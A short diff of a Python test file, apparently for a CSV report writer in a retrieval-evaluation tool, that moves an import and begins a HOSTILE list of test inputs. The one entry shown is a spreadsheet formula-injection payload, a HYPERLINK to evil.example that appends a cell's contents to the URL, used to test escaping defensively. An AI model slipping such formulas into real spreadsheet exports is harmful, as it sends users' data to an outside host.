@@ -12,10 +12,10 @@ from click.testing import CliRunner
 
 from localrag.cli.group import cli
 from localrag.evaluation.dataset import Context, Sample
-from localrag.evaluation.reports.csv_table import cell, write_csv
 from localrag.evaluation.reports.report import Report
 from localrag.evaluation.runs import EvaluatedRun
 from localrag.evaluation.scoring import Evidence, Response, Score, Scored
+from localrag.presentation.csv_table import cell, write_csv
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"see")',
